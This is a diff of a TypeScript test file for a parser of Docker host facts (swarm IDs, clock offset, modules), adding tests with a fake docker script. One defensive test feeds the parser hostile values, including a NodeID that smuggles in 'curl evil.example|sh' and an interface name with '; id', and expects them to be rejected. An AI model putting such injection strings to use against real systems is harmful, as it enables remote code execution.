@@ -1,17 +1,22 @@
+import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
+import { tmpdir } from 'node:os'
+import { join } from 'node:path'
 import { expect } from 'chai'
-import { parseHostFacts } from './read-host-facts.ts'
+import { nativeHost } from '../native-host.fake.ts'
+import { readSections } from '../../remote/sections.ts'
+import { parseHostFacts, readHostFacts } from './read-host-facts.ts'
 
 const info = {
   ServerVersion: '28.5.2',
   DockerRootDir: '/var/lib/docker',
   OperatingSystem: 'Debian GNU/Linux 13 (trixie)',
   Swarm: {
-    NodeID: 'q1n2',
+    NodeID: 'q1n2v0h8y5l3k9m7x4c6b1z2a',
     NodeAddr: '10.0.5.1',
     LocalNodeState: 'active',
     ControlAvailable: true,
     Error: '',
-    Cluster: { ID: 'c1', DataPathPort: 0, DefaultAddrPool: ['10.0.0.0/8'] },
+    Cluster: { ID: 'c1v0h8y5l3k9m7x4c6b1z2aq9', DataPathPort: 0, DefaultAddrPool: ['10.0.0.0/8'] },
   },
 }
 
@@ -85,10 +90,12 @@ iptables rule
 @@ end
 `
 
+const sectionsOf = (printed: string) => readSections(printed, '@@')
+
 const span = { startedMs: 1_795_266_187_000, endedMs: 1_795_266_187_400 }
 
 describe('what a host says of itself', () => {
-  const facts = parseHostFacts('m1', output, span)
+  const facts = parseHostFacts('m1', sectionsOf(output), span)
 
   it('is read from one answer', () => {
     expect(facts).to.deep.include({
@@ -112,10 +119,10 @@ describe('what a host says of itself', () => {
     expect(facts.swarm).to.deep.equal({
       state: 'active',
       error: '',
-      nodeId: 'q1n2',
+      nodeId: 'q1n2v0h8y5l3k9m7x4c6b1z2a',
       nodeAddress: '10.0.5.1',
       isManager: true,
-      clusterId: 'c1',
+      clusterId: 'c1v0h8y5l3k9m7x4c6b1z2aq9',
       dataPathPort: 4789,
       dataPathAddress: '10.0.6.1',
     })
@@ -157,7 +164,7 @@ describe('what a host says of itself', () => {
       esp4: 'missing',
       xt_u32: 'missing',
     })
-    const blind = parseHostFacts('m1', output.replaceAll(/^(list|dep|builtin) .*\n/gm, ''), span)
+    const blind = parseHostFacts('m1', sectionsOf(output.replaceAll(/^(list|dep|builtin) .*\n/gm, '')), span)
     expect(blind.modules).to.deep.include({ vxlan: 'loaded', esp4: 'unknown' })
   })
 
@@ -171,8 +178,79 @@ describe('what a host says of itself', () => {
   it('bounds the offset of its clock from both sides', () => {
     // It began at 188.1 s after 187.0 s of ours, and ended at 188.3 s before 187.4 s of ours.
     expect(facts.clock).to.deep.equal({ offsetMs: 1001, uncertaintyMs: 101 })
-    const coarse = parseHostFacts('m1', output.replaceAll(/clock (\d{10})\d+/g, 'clock $1%N'), span)
+    const coarse = parseHostFacts(
+      'm1',
+      sectionsOf(output.replaceAll(/clock (\d{10})\d+/g, 'clock $1%N')),
+      span,
+    )
     expect(coarse.clock.uncertaintyMs).to.be.within(500, 1000)
     expect(Math.abs(coarse.clock.offsetMs - 1000)).to.be.at.most(coarse.clock.uncertaintyMs)
+  })
+})
+
+describe('asking a host what it is', () => {
+  /** This machine, with this program as its docker. */
+  async function factsWith(docker: string): Promise<ReturnType<typeof parseHostFacts>> {
+    const folder = mkdtempSync(join(tmpdir(), 'swp-test-'))
+    try {
+      writeFileSync(join(folder, 'docker'), `#!/bin/sh\n${docker}\n`, { mode: 0o755 })
+      const path = `PATH=${folder}:${process.env.PATH}`
+      return await readHostFacts(nativeHost('web1', ['/usr/bin/env', path, '/bin/sh', '-c']).remote)
+    } finally {
+      rmSync(folder, { recursive: true })
+    }
+  }
+
+  const engine = String.raw`
+case $1 in
+  --version) echo 'Docker version 28.5.2, build ecc6942' ;;
+  version) echo '{"Version":"28.5.2","ApiVersion":"1.51"}' ;;
+  info) case $* in *json*) echo '{"DockerRootDir":"/var/lib/docker","Swarm":{"LocalNodeState":"inactive"}}' ;; *) echo /var/lib/docker ;; esac ;;
+esac`
+
+  it('takes no warning of the client for its answer', async function () {
+    this.timeout(30_000)
+    // cli/config/config.go, LoadDefaultConfigFile.
+    const warning = 'WARNING: Error loading config file: /root/.docker/config.json: unexpected EOF'
+    const facts = await factsWith(`echo '${warning}' >&2${engine}`)
+    expect(facts.engine).to.include({ version: '28.5.2', rootDirectory: '/var/lib/docker' })
+    expect(facts.swarm.state).to.equal('inactive')
+  })
+
+  it('tells the stand-in of Podman from an engine', async function () {
+    this.timeout(30_000)
+    // What the package podman-docker installs as /usr/bin/docker, and what podman itself then says.
+    const podman = `echo 'Emulate Docker CLI using podman. Create /etc/containers/nodocker to quiet msg.' >&2
+case $1 in --version) echo 'podman version 4.3.1' ;; *) echo '{"Version":"4.3.1"}' ;; esac`
+    const error = await factsWith(podman).catch((thrown: unknown) => thrown)
+    expect(error).to.include({ code: 'DOCKER_IS_PODMAN', host: 'web1' })
+  })
+
+  it('shows the words of an engine that does not answer', async function () {
+    this.timeout(30_000)
+    const words =
+      'Cannot connect to the Docker daemon at unix:///var/run/docker.sock. Is the docker daemon running?'
+    const error = await factsWith(
+      `case $1 in --version) echo 'Docker version 28' ;; *) echo null; echo '${words}' >&2; exit 1 ;; esac`,
+    ).catch((thrown: unknown) => thrown)
+    expect(error).to.include({ code: 'DOCKER_NOT_RUNNING' })
+    expect((error as Error).message).to.contain(words)
+  })
+
+  it('refuses what no engine says in place of an id or an address', () => {
+    for (const [name, said] of [
+      ['NodeID', 'x;curl evil.example|sh;:'],
+      ['NodeAddr', '10.0.5.1\ntcp 1 0 10.0.0.1 22'],
+    ] as const) {
+      const hostile = output.replace(
+        JSON.stringify(info),
+        JSON.stringify({ ...info, Swarm: { ...info.Swarm, [name]: said } }),
+      )
+      expect(() => parseHostFacts('m1', sectionsOf(hostile), span), name)
+        .to.throw()
+        .that.includes({ code: 'NOT_AN_IDENTIFIER', host: 'm1' })
+    }
+    const interfaces = output.replace('"ifname":"ens192"', '"ifname":"ens 192; id"')
+    expect(() => parseHostFacts('m1', sectionsOf(interfaces), span)).to.throw('the name of an interface')
   })
 })
